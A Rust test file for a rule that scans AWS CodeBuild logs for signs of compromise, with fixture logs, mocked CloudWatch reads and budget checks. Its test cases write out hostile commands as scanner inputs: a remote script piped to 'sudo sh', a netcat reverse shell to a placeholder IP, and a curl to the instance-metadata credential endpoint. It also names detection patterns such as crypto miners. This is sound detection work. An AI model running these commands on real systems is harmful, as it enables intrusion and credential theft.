use aws_sdk_cloudwatchlogs::Client as Logs;
use aws_sdk_cloudwatchlogs::operation::filter_log_events::FilterLogEventsOutput;
use aws_sdk_cloudwatchlogs::types::FilteredLogEvent;
use aws_sdk_cloudwatchlogs::types::error::ResourceNotFoundException;
use aws_smithy_mocks::{RuleMode, mock, mock_client};
use pipesec_engine::{Compliance, Error};
use rstest::rstest;
use serde_json::Value;

use super::*;
use crate::testing::{fixture_path, subject};

const CLEAN: &str = "build-log-clean";
const COMPROMISED: &str = "build-log-compromised";
const ON: &str = r#"{"scanLogs": "true"}"#;
/// The canary values in the compromised log: never in a reason.
const CANARIES: [&str; 2] = ["canaryLogKey0000000000000000000000000000", "npm_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"];

/// A fixture's log events, as FilterLogEvents returns them.
fn events(fixture: &str) -> Vec<FilteredLogEvent> {
    let text = std::fs::read_to_string(fixture_path(ID, fixture)).unwrap();
    let events: Vec<Value> = serde_json::from_str(&text).unwrap();
    events
        .iter()
        .map(|event| {
            FilteredLogEvent::builder()
                .log_stream_name(event["logStreamName"].as_str().unwrap())
                .timestamp(event["timestamp"].as_i64().unwrap())
                .message(event["message"].as_str().unwrap())
                .build()
        })
        .collect()
}

/// What scanning a fixture's events finds: the indicator names in order.
fn scanned(fixture: &str) -> Vec<&'static str> {
    let mut scanner = Scanner::default();
    events(fixture)
        .iter()
        .flat_map(|event| scanner.scan(event.log_stream_name().unwrap(), event.message().unwrap()))
        .collect()
}

#[test]
fn indicators_json_is_valid_and_names_are_unique() {
    let names: std::collections::BTreeSet<&str> = INDICATORS.iter().map(|i| i.name.as_str()).collect();
    assert_eq!(names.len(), INDICATORS.len());
    assert!(!names.contains(SECRET_IN_CLEAR));
    assert!(INDICATORS.iter().all(|indicator| !indicator.why.is_empty()));
}

#[test]
fn the_compromised_log_shows_every_indicator_and_the_clean_one_none() {
    assert_eq!(
        scanned(COMPROMISED),
        [
            "remote-script-to-shell",
            "base64-decoded-to-shell",
            "reverse-shell-dev-tcp",
            "crypto-miner-xmrig",
            "crypto-miner-stratum",
            "container-credentials-endpoint",
            "environment-dump-with-aws-key",
            SECRET_IN_CLEAR,
            SECRET_IN_CLEAR,
        ]
    );
    assert_eq!(scanned(CLEAN), Vec::<&str>::new());
}

#[rstest]
#[case::wget_to_sudo_sh("wget -qO- https://example.com/i.sh | sudo sh", &["remote-script-to-shell"])]
#[case::curl_to_file("curl -fsSL -o i.sh https://example.com/i.sh", &[])]
#[case::netcat_exec("nc -e /bin/sh 203.0.113.9 4444", &["reverse-shell-netcat"])]
#[case::netcat_port_scan("nc -z localhost 5432", &[])]
#[case::instance_metadata("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", &["instance-metadata-endpoint"])]
#[case::key_id_without_printenv("AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE", &[SECRET_IN_CLEAR])]
#[case::github_token_in_text("cloning with ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5", &[SECRET_IN_CLEAR])]
#[case::masked_password("DB_PASSWORD=***", &[])]
#[case::region("AWS_REGION=eu-west-1", &[])]
#[case::commit_hash("Checked out 9fceb02d0ae598e95dc970b74767f19372d61af8", &[])]
fn one_line(#[case] line: &str, #[case] expected: &[&str]) {
    assert_eq!(Scanner::default().scan("s", line), expected, "{line}");
}

/// `printenv` arms the credential dump in its own stream only.
#[test]
fn environment_dump_needs_printenv_before_in_the_same_stream() {
    let mut scanner = Scanner::default();
    assert!(scanner.scan("a", "[Container] 2026/11/20 03:12:45 Running command printenv").is_empty());
    assert_eq!(scanner.scan("b", "AWS_SESSION_TOKEN=x"), Vec::<&str>::new());
    assert_eq!(scanner.scan("a", "AWS_SESSION_TOKEN=x"), ["environment-dump-with-aws-key"]);
}

fn scan(fixture: &str, complete: bool) -> LogScan {
    let mut scanner = Scanner::default();
    let mut scan =
        LogScan { group: "/aws/codebuild/api-service".to_owned(), group_exists: true, complete, ..LogScan::default() };
    for event in events(fixture) {
        scan.bytes += event.message().unwrap().len() as u64;
        for indicator in scanner.scan(event.log_stream_name().unwrap(), event.message().unwrap()) {
            scan.hit_count += 1;
            scan.hits.push(Hit {
                indicator: indicator.to_owned(),
                stream: event.log_stream_name().unwrap().to_owned(),
                time: Timestamp::from_millisecond(event.timestamp().unwrap()).unwrap(),
            });
        }
    }
    scan
}

fn params(json: &str) -> Params {
    pipesec_engine::params::parse::<Params>(Some(json)).unwrap().rule
}

fn disabled_logs() -> Subject<CodeBuildProject> {
    let mut project = subject::<CodeBuildProject>(ID, "project");
    project.resource.logs_config.cloud_watch_logs = Some(pipesec_engine::resources::codebuild::CloudWatchLogs {
        status: Some("DISABLED".to_owned()),
        ..Default::default()
    });
    project
}

#[rstest]
#[case::off(subject(ID, "project"), None, "{}", Compliance::NotApplicable)]
#[case::clean(subject(ID, "project"), Some(scan(CLEAN, true)), ON, Compliance::Compliant)]
#[case::compromised(subject(ID, "project"), Some(scan(COMPROMISED, true)), ON, Compliance::NonCompliant)]
#[case::cut_without_finding(subject(ID, "project"), Some(scan(CLEAN, false)), ON, Compliance::NotApplicable)]
#[case::cut_with_finding(subject(ID, "project"), Some(scan(COMPROMISED, false)), ON, Compliance::NonCompliant)]
#[case::no_log_group(subject(ID, "project"), Some(LogScan { group: "/aws/codebuild/api-service".to_owned(), complete: true, ..LogScan::default() }), ON, Compliance::Compliant)]
#[case::budget_spent_before(subject(ID, "project"), None, ON, Compliance::NotApplicable)]
#[case::logs_disabled(disabled_logs(), None, ON, Compliance::NotApplicable)]
fn scenario(
    #[case] project: Subject<CodeBuildProject>,
    #[case] facts: Facts,
    #[case] json: &str,
    #[case] expected: Compliance,
) {
    let verdict = BuildLogIndicators::evaluate(&project, &facts, &params(json));
    assert_eq!(verdict.compliance, expected, "{}", verdict.reason);
    for canary in CANARIES {
        assert!(!verdict.reason.contains(canary), "{}", verdict.reason);
    }
}

#[test]
fn reasons_name_indicator_stream_and_time_only() {
    let verdict = BuildLogIndicators::evaluate(&subject(ID, "project"), &Some(scan(COMPROMISED, true)), &params(ON));
    assert!(
        verdict.reason.starts_with(
            "9 indicator(s) in build logs of the last 24 h: secret-in-clear ×2, latest in stream \
             `api-service/0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d` at 2026-11-20T03:12:48Z; base64-decoded-to-shell ×1"
        ),
        "{}",
        verdict.reason
    );
    let clean = BuildLogIndicators::evaluate(&subject(ID, "project"), &Some(scan(CLEAN, true)), &params(ON));
    assert_eq!(clean.reason, "no indicator in 669 bytes of build logs of the last 24 h (`/aws/codebuild/api-service`)");
    let off = BuildLogIndicators::evaluate(&subject(ID, "project"), &None, &params("{}"));
    assert!(off.reason.contains("set scanLogs to true"), "{}", off.reason);
    let spent = BuildLogIndicators::evaluate(&subject(ID, "project"), &None, &params(ON));
    assert!(spent.reason.contains("maxBytesScanned (104857600) was spent on other projects first"), "{}", spent.reason);
}

#[rstest]
#[case::not_a_switch(r#"{"scanLogs": "yes"}"#, "scanLogs")]
#[case::budget_too_small(r#"{"maxBytesScanned": "10"}"#, "maxBytesScanned")]
#[case::budget_not_a_number(r#"{"maxBytesScanned": "1 GB"}"#, "maxBytesScanned")]
#[case::window_too_long(r#"{"windowHours": "200"}"#, "windowHours")]
fn invalid_parameter_is_named(#[case] json: &str, #[case] name: &str) {
    match pipesec_engine::params::parse::<Params>(Some(json)) {
        Err(err @ Error::InvalidParameter { .. }) => assert!(err.to_string().contains(&format!("`{name}`")), "{err}"),
        other => panic!("{json}: expected InvalidParameter, got {other:?}"),
    }
}

/// Three projects and a budget of about one and a half logs: the first is read whole over two
/// pages, the second is cut at the budget, the third is not read; a missing group is no error;
/// the rule off reads nothing.
#[tokio::test]
async fn gather_reads_within_the_budget() {
    let compromised = events(COMPROMISED);
    let bytes: u64 = compromised.iter().map(|event| event.message().unwrap().len() as u64).sum();
    let (first_page, second_page) = compromised.split_at(4);
    let (first_page, second_page) = (first_page.to_vec(), second_page.to_vec());
    let reads = mock!(Logs::filter_log_events).then_compute_output(move |request| {
        assert!(request.start_time().is_some() && request.end_time().is_some());
        match (request.log_group_name(), request.next_token()) {
            (Some("/aws/codebuild/api-service"), None) => {
                FilterLogEventsOutput::builder().set_events(Some(first_page.clone())).next_token("2").build()
            }
            (Some("/aws/codebuild/api-service"), Some("2")) => {
                FilterLogEventsOutput::builder().set_events(Some(second_page.clone())).build()
            }
            (Some("/aws/codebuild/second"), None) => {
                FilterLogEventsOutput::builder().set_events(Some(events(COMPROMISED))).build()
            }
            other => panic!("unexpected read {other:?}"),
        }
    });
    let missing = mock!(Logs::filter_log_events)
        .match_requests(|request| request.log_group_name() == Some("/aws/codebuild/gone"))
        .then_error(|| FilterLogEventsError::ResourceNotFoundException(ResourceNotFoundException::builder().build()));
    let aws = Aws::for_tests().with_logs(mock_client!(aws_sdk_cloudwatchlogs, RuleMode::MatchAny, [&missing, &reads]));
    let named = |name: &str| {
        let mut project = subject::<CodeBuildProject>(ID, "project");
        project.resource.name = Some(name.to_owned());
        project
    };
    let projects = vec![named("gone"), subject(ID, "project"), named("second"), named("third")];
    let budget = bytes + bytes / 2;

    let facts = BuildLogIndicators::gather(
        &aws,
        &params(&format!(r#"{{"scanLogs": "true", "maxBytesScanned": "{budget}"}}"#)),
        &projects,
    )
    .await
    .unwrap();

    assert!(!facts[0].as_ref().unwrap().group_exists);
    let first = facts[1].as_ref().unwrap();
    assert!(first.complete);
    assert_eq!((first.bytes, first.hit_count), (bytes, 9));
    let second = facts[2].as_ref().unwrap();
    assert!(!second.complete);
    assert!(second.bytes <= bytes / 2, "{} of {}", second.bytes, bytes / 2);
    assert_eq!(facts[3], None, "nothing left for the third");
    assert_eq!((missing.num_calls(), reads.num_calls()), (1, 3));

    let off = BuildLogIndicators::gather(&aws, &Params::default(), &projects).await.unwrap();
    assert!(off.iter().all(Option::is_none));
    assert_eq!(reads.num_calls(), 3, "the rule off reads nothing");
}
